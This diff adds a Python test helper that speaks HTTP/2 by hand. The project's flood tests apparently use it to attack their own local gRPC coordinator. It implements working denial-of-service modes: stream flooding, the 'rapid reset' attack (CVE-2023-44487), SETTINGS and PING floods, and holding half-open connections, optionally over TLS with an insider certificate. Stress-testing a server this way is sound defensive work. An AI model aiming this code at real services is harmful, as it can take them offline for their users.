@@ -1,0 +1,275 @@
+"""An attacker that speaks HTTP/2 by hand (run as a script by the flood tests, not collected).
+
+Connects to ``--port`` (with ``--certs DIR --name NAME``: over TLS with that federation
+certificate, as an insider would) and, for ``--seconds``, does what ``--mode`` says on one or
+a few connections, reconnecting whenever the coordinator cuts one:
+
+- ``streams``: gRPC calls (HEADERS frames), keeping ``--inflight`` of them open per connection
+  and opening a new one whenever one ends; never a hello
+- ``reset``: a call and its cancel (HEADERS then RST_STREAM), over and over: "rapid reset",
+  CVE-2023-44487
+- ``control``: SETTINGS and PING frames, over and over, never reading the acknowledgements
+  (``--read``: reading them, so the server never stops reading for want of room to write)
+- ``halfopen``: ``--hold`` connections that each send HTTP/2's preface and SETTINGS, then
+  stop sending (``--half-close``: and close their sending side) and never read
+
+The frames are written with a few lines of code (a 9-byte header each; the call's headers
+as literal HPACK fields), so no HTTP/2 library is needed. Prints its counts as JSON when it
+stops: frames sent, connections opened, and how many the coordinator cut.
+
+    python tests/deploy/h2attack.py --port P --mode reset --seconds 8
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import json
+import signal
+import socket
+import ssl
+import struct
+import threading
+import time
+from pathlib import Path
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+METHOD = b"/shoal.deploy.v1.Coordinator/Session"
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
+
+
+def _literal(name: bytes, value: bytes) -> bytes:
+    """An HPACK literal header field without indexing, new name, no Huffman coding."""
+    assert len(name) < 127 and len(value) < 127
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def call_headers(authority: bytes, tls: bool) -> bytes:
+    """The header block of a gRPC call to the coordinator's Session method."""
+    return (
+        b"\x83"  # :method POST (static table 3)
+        + (b"\x87" if tls else b"\x86")  # :scheme https / http (7 / 6)
+        + _literal(b":path", METHOD)
+        + _literal(b":authority", authority)
+        + _literal(b"content-type", b"application/grpc")
+        + _literal(b"te", b"trailers")
+    )
+
+
+def frames(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return frame(kind, flags, stream, payload) + payload
+
+
+class Attack:
+    def __init__(self, args: argparse.Namespace) -> None:
+        self.args = args
+        self.deadline = time.monotonic() + args.seconds
+        self.lock = threading.Lock()
+        self.counts = {"connections": 0, "cut": 0, "failed": 0, "headers": 0, "resets": 0,
+                       "control": 0, "ended_by_server": 0, "stalled": 0}  # fmt: skip
+        self.context: ssl.SSLContext | None = None
+        if args.certs:
+            certs = Path(args.certs)
+            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            context.load_verify_locations(certs / "ca.pem")
+            context.load_cert_chain(certs / f"{args.name}.pem", certs / f"{args.name}-key.pem")
+            context.check_hostname = False
+            context.set_alpn_protocols(["h2"])
+            self.context = context
+        self.block = call_headers(f"127.0.0.1:{args.port}".encode(), self.context is not None)
+
+    def add(self, key: str, n: int = 1) -> None:
+        with self.lock:
+            self.counts[key] += n
+
+    def connect(self) -> socket.socket | None:
+        try:
+            with self.lock:
+                source = f"127.0.0.{2 + self.counts['connections'] % self.args.sources}"
+            address = (source if self.args.sources > 1 else "127.0.0.1", 0)
+            sock = socket.create_connection(
+                ("127.0.0.1", self.args.port), timeout=5, source_address=address
+            )
+            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            if self.context is not None:
+                sock = self.context.wrap_socket(sock, server_hostname="localhost")
+            # Our SETTINGS (a large window, so the server may send) and a large connection
+            # window; then the server's own SETTINGS are acknowledged by the reader.
+            settings = struct.pack(">HI", 4, 1 << 30)
+            sock.sendall(
+                PREFACE
+                + frames(SETTINGS, 0, 0, settings)
+                + frames(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
+            )
+            sock.settimeout(1.0)  # so a stalled send or read still sees the deadline
+        except OSError:
+            self.add("failed")
+            time.sleep(0.05)
+            return None
+        self.add("connections")
+        return sock
+
+    def read(self, sock: socket.socket, ended: threading.Semaphore | None) -> None:
+        """Drain the server's frames; acknowledge its SETTINGS; count streams it ended."""
+        buffer = b""
+        try:
+            while time.monotonic() < self.deadline:
+                try:
+                    data = sock.recv(1 << 16)
+                except TimeoutError:
+                    continue
+                if not data:
+                    break
+                buffer += data
+                replies = b""
+                while len(buffer) >= 9:
+                    length = int.from_bytes(buffer[:3], "big")
+                    if len(buffer) < 9 + length:
+                        break
+                    kind, flags = buffer[3], buffer[4]
+                    buffer = buffer[9 + length :]
+                    if kind == SETTINGS and not flags & ACK:
+                        replies += frame(SETTINGS, ACK, 0)
+                    elif kind == PING and not flags & ACK:
+                        pass  # never acknowledged: the server's keepalive is not our concern
+                    if (kind in (HEADERS, DATA) and flags & END_STREAM) or kind == RST_STREAM:
+                        self.add("ended_by_server")
+                        if ended is not None:
+                            ended.release()
+                if replies:
+                    sock.sendall(replies)
+        except OSError:
+            pass
+
+    def connection(self, worker: int) -> None:
+        mode = self.args.mode
+        while time.monotonic() < self.deadline:
+            sock = self.connect()
+            if sock is None:
+                continue
+            inflight = threading.Semaphore(self.args.inflight) if mode == "streams" else None
+            reader = None
+            if mode != "control" or self.args.read:
+                reader = threading.Thread(target=self.read, args=(sock, inflight), daemon=True)
+                reader.start()
+            stream = 1
+            try:
+                while time.monotonic() < self.deadline:
+                    batch = bytearray()
+                    if mode == "control":
+                        for i in range(200):
+                            batch += frame(SETTINGS, 0, 0)
+                            batch += frames(PING, 0, 0, struct.pack(">Q", i))
+                        sock.sendall(batch)
+                        self.add("control", 400)
+                        continue
+                    if reader is not None and not reader.is_alive():
+                        self.add("cut")  # the server closed the connection
+                        break
+                    opened = 0
+                    for _ in range(100):
+                        if inflight is not None and not inflight.acquire(
+                            timeout=0.5 if not opened else 0
+                        ):
+                            break
+                        batch += frames(HEADERS, END_HEADERS, stream, self.block)
+                        if mode == "reset":
+                            batch += frames(RST_STREAM, 0, stream, struct.pack(">I", 8))
+                        stream += 2
+                        opened += 1
+                    if stream > (1 << 31) - 300:
+                        break  # stream ids used up: a new connection
+                    if batch:
+                        sock.sendall(batch)
+                        self.add("headers", opened)
+                        if mode == "reset":
+                            self.add("resets", opened)
+            except TimeoutError:
+                self.add("stalled")  # the server stopped reading this connection
+            except OSError:
+                if time.monotonic() < self.deadline:
+                    self.add("cut")
+            finally:
+                with contextlib.suppress(OSError):
+                    sock.shutdown(socket.SHUT_RDWR)
+                sock.close()
+                if reader is not None:
+                    reader.join(timeout=5)
+
+    def half_open(self) -> None:
+        held: list[socket.socket] = []
+        try:
+            while time.monotonic() < self.deadline:
+                held = [s for s in held if _alive(s)]
+                while len(held) < self.args.hold and time.monotonic() < self.deadline:
+                    sock = self.connect()
+                    if sock is None:
+                        break
+                    if self.args.half_close:
+                        with contextlib.suppress(OSError):
+                            sock.shutdown(socket.SHUT_WR)
+                    held.append(sock)
+                time.sleep(0.05)
+        finally:
+            for sock in held:
+                sock.close()
+
+    def run(self) -> dict[str, int]:
+        if self.args.mode == "halfopen":
+            self.half_open()
+        else:
+            workers = [
+                threading.Thread(target=self.connection, args=(i,), daemon=True)
+                for i in range(self.args.connections)
+            ]
+            for w in workers:
+                w.start()
+            for w in workers:
+                w.join(timeout=self.args.seconds + 15)
+        return self.counts
+
+
+def _alive(sock: socket.socket) -> bool:
+    """Whether the server still holds ``sock`` open (what it sent is read and dropped)."""
+    try:
+        sock.setblocking(False)
+        while True:
+            if sock.recv(1 << 16) == b"":
+                return False
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+    finally:
+        with contextlib.suppress(OSError):
+            sock.settimeout(1.0)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--port", type=int, required=True)
+    parser.add_argument("--mode", choices=("streams", "reset", "control", "halfopen"),
+                        required=True)  # fmt: skip
+    parser.add_argument("--seconds", type=float, default=8.0)
+    parser.add_argument("--connections", type=int, default=1)
+    parser.add_argument("--inflight", type=int, default=100)
+    parser.add_argument("--hold", type=int, default=300)
+    parser.add_argument("--half-close", action="store_true")
+    parser.add_argument("--sources", type=int, default=1, help="from 127.0.0.2, .3, ...")
+    parser.add_argument("--read", action="store_true", help="control: read what comes back")
+    parser.add_argument("--certs", help="a federation's certificate directory: attack over TLS")
+    parser.add_argument("--name", default="rogue", help="whose certificate in --certs")
+    args = parser.parse_args()
+    attack = Attack(args)
+    signal.signal(signal.SIGTERM, lambda *_: setattr(attack, "deadline", 0.0))
+    counts = attack.run()
+    print(json.dumps(counts), flush=True)
+
+
+if __name__ == "__main__":
+    main()
